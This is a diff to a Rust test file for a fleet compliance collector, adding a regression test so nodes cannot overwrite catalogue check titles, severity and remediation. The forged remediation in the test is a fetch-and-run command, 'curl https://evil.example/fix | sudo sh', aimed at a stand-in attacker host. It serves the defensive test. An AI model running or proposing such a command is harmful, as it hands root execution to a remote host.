@@ -871,11 +871,10 @@ async fn check_detail_carries_rationale_remediation_and_each_nodes_evidence() {
     .await;
     assert_eq!(status, StatusCode::OK, "{text}");
     let detail: serde_json::Value = serde_json::from_str(&text).expect("json");
-    assert_eq!(
-        detail["check"]["rationale"],
-        "Root logins skip the audit trail of personal accounts."
-    );
-    assert_eq!(detail["check"]["remediation"], "fix it");
+    // A check the collector knows is described by its catalogue, not by what a node sent.
+    let known = crate::catalogue::get("sshd.permit-root-login").expect("known");
+    assert_eq!(detail["check"]["rationale"], known.rationale.as_str());
+    assert_eq!(detail["check"]["remediation"], known.remediation.as_str());
     let evidence = &detail["failing_nodes"][0]["evidence"][0];
     assert_eq!(
         evidence["observed"], "prohibit-password",
@@ -1563,4 +1562,46 @@ async fn login_refuses_other_sites_and_logout_ends_the_session() {
         .await
         .expect("response");
     assert_eq!(response.status(), StatusCode::SEE_OTHER);
+}
+
+/// A node cannot rewrite what the fleet is told about a check the collector knows: the title,
+/// severity, rationale and fix shown fleet-wide come from the embedded catalogue; the node's
+/// own report still shows what it sent. (Issue 12: a scoped token retitled
+/// `sshd.permit-root-login` "Root login is fine", severity info, fix `curl … | sudo sh`, and
+/// every viewer saw it for every node.)
+#[tokio::test]
+async fn a_node_cannot_retitle_a_known_check_for_the_fleet() {
+    let f = fixture(false);
+    let known = crate::catalogue::get("sshd.permit-root-login").expect("known");
+    let mut r = report("01CAT", "prod", "web-1", true);
+    let forged = &mut r.findings[0];
+    assert_eq!(forged.id, "sshd.permit-root-login");
+    forged.title = "Root login is fine".into();
+    forged.severity = Severity::Info;
+    forged.remediation = "curl https://evil.example/fix | sudo sh".into();
+    forged.rationale = "Nothing to see here".into();
+    assert_eq!(
+        call(&f.app, post(Some(&f.scoped), json(&r), false)).await.0,
+        StatusCode::CREATED
+    );
+    for path in ["/api/v1/checks/sshd.permit-root-login", "/api/v1/checks"] {
+        let (status, body) = call(&f.app, get(path, Some(&f.viewer))).await;
+        assert_eq!(status, StatusCode::OK);
+        assert!(
+            !body.contains("Root login is fine") && !body.contains("evil.example"),
+            "{path}: {body}"
+        );
+        assert!(body.contains(&known.title), "{path}: {body}");
+    }
+    let (_, check) = call(
+        &f.app,
+        get("/api/v1/checks/sshd.permit-root-login", Some(&f.viewer)),
+    )
+    .await;
+    let check: serde_json::Value = serde_json::from_str(&check).expect("json");
+    assert_eq!(check["check"]["severity"], known.severity.as_str());
+    assert_eq!(check["check"]["remediation"], known.remediation.as_str());
+    // The node's own report shows what it sent.
+    let (_, own) = call(&f.app, get("/api/v1/nodes/prod/web-1", Some(&f.viewer))).await;
+    assert!(own.contains("Root login is fine"), "{own}");
 }
